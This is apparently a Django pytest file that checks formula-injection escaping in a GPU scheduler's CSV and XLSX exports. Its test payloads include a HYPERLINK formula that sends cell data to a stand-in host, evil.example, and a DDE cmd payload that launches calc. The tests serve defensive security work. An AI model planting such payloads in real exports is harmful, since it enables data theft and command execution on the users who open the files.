"""CSV / formula injection: text a user controls (job and user names, user agents, audit targets) reaches the
CSV and XLSX exports; a cell that a spreadsheet would run as a formula (= + - @ tab CR) is written after a
``'``. The audit bundle's CSV is escaped the same way, and the offline verifier still accepts the bundle.

Existing export tests (tests/audit/test_exports.py, tests/frontend/test_reports_page.py, test_jobs_pages.py,
tests/tenants/test_api_quotas.py) check the exports' content; these check only the escaping.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from audit.bundle_verifier import verify_bundle
from audit.csvsafe import FORMULA_TRIGGERS, formula_safe
from scheduler.models import Allocation
from scheduler.services.jobs import job_submit
from tenants.models import MembershipRole, PlatformRole
from tests.factories import ApiTokenFactory, AuditorFactory, MembershipFactory, TenantFactory, UserFactory, bearer
from tests.scheduler.factories import DeviceFactory, FlavorFactory, JobFactory

pytestmark = pytest.mark.django_db


def spec(name: str, tenant: str) -> dict:
    return {"name": name, "tenant": tenant, "resources": {"flavors": ["sim-80g"], "gpus": 1}, "command": ["x"]}


PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
HIDDEN = ["\t=1+1", "\r=1+1"]


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_TRIGGERS)


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS + HIDDEN)
def test_formula_cells_are_quoted_and_other_values_kept(payload):
    assert formula_safe(payload) == "'" + payload
    for value in ("resnet50", "", 42, -3, 1.5, None, "a=b", "'=already quoted"):
        assert formula_safe(value) == value


def test_audit_bundle_csv_is_escaped_and_still_verifies(client, tmp_path):
    tenant = TenantFactory(slug="inj-audit")
    member = UserFactory(username="inj-member")
    MembershipFactory(user=member, tenant=tenant, role=MembershipRole.MEMBER)
    FlavorFactory(name="sim-80g")
    token = ApiTokenFactory(user=member, scope="write")
    # The user agent and the job name (in the audit target/details) are the attacker's text.
    for payload in PAYLOADS:
        response = client.post(
            "/api/v1/jobs/",
            spec(payload, tenant.slug),
            content_type="application/json",
            headers={**bearer(token), "User-Agent": payload},
        )
        assert response.status_code == 201, response.content
    auditor = AuditorFactory()
    client.force_login(auditor)
    now = timezone.now()
    start, end = (now - dt.timedelta(hours=1)).isoformat(), (now + dt.timedelta(hours=1)).isoformat()
    response = client.get("/api/v1/audit/export/", {"start": start, "end": end})
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as bundle:
        text = bundle.read("records.csv").decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    agents = {row["user_agent"] for row in rows if row["action"] == "job.submit"}
    assert {"'" + payload for payload in PAYLOADS} <= agents
    assert not [cell for cell in csv_cells(text) if dangerous(cell)]
    path = tmp_path / "bundle.zip"
    path.write_bytes(response.content)
    assert verify_bundle(str(path))["records"] >= len(PAYLOADS)

    # The console's audit table download is escaped too.
    console = client.get("/console/audit/", {"export": "csv"})
    assert console.status_code == 200
    cells = csv_cells(console.content.decode())
    assert not [cell for cell in cells if dangerous(cell)]


def test_usage_report_csv_and_xlsx_escape_user_names(client):
    tenant = TenantFactory(slug="inj-usage")
    admin = UserFactory(username="inj-admin")
    MembershipFactory(user=admin, tenant=tenant, role=MembershipRole.TENANT_ADMIN)
    flavor = FlavorFactory()
    start = dt.datetime(2026, 11, 2, tzinfo=dt.UTC)
    for payload in PAYLOADS + HIDDEN:
        # A username from single sign-on is not limited to Django's username characters.
        user = UserFactory(username=payload)
        device = DeviceFactory(flavor=flavor)
        Allocation.objects.create(
            job=JobFactory(tenant=tenant, submitter=user, name=payload),
            replica=0,
            tenant=tenant,
            flavor=flavor,
            device=device,
            node=device.node,
            millis=1000,
            started_at=start,
            ended_at=start + dt.timedelta(hours=1),
        )
    client.force_login(admin)
    query = {"start": "2026-11-01T00:00:00Z", "end": "2026-11-03T00:00:00Z"}
    response = client.get("/api/v1/usage/", {**query, "export": "csv", "detail": "true"})
    assert response.status_code == 200
    cells = csv_cells(response.content.decode())
    assert {"'" + payload for payload in PAYLOADS + HIDDEN} <= set(cells)
    assert not [cell for cell in cells if dangerous(cell)]

    response = client.get("/api/v1/usage/", {**query, "export": "xlsx"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    values = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in values if cell.data_type == "f"], "a formula cell in the workbook"
    assert not [cell.value for cell in values if isinstance(cell.value, str) and dangerous(cell.value)]


def test_console_table_downloads_escape_job_and_node_names(client):
    tenant = TenantFactory(slug="inj-console")
    flavor = FlavorFactory(name="sim-80g")
    for payload in PAYLOADS:
        DeviceFactory(flavor=flavor, node__name=payload)
    member = UserFactory(username="inj-console-member")
    MembershipFactory(user=member, tenant=tenant, role=MembershipRole.MEMBER)
    for payload in PAYLOADS:
        job_submit(actor=member, spec=spec(payload, tenant.slug))
    client.force_login(member)
    cells = csv_cells(client.get("/console/jobs/", {"export": "csv"}).content.decode())
    assert {"'" + payload for payload in PAYLOADS} <= set(cells)
    assert not [cell for cell in cells if dangerous(cell)]

    client.force_login(UserFactory(username="inj-admin", platform_role=PlatformRole.SYSTEM_ADMIN))
    response = client.get("/console/nodes/", {"export": "xlsx"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    values = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in values if cell.data_type == "f"], "a formula cell in the node table"
    assert {"'" + payload for payload in PAYLOADS} <= {cell.value for cell in values}
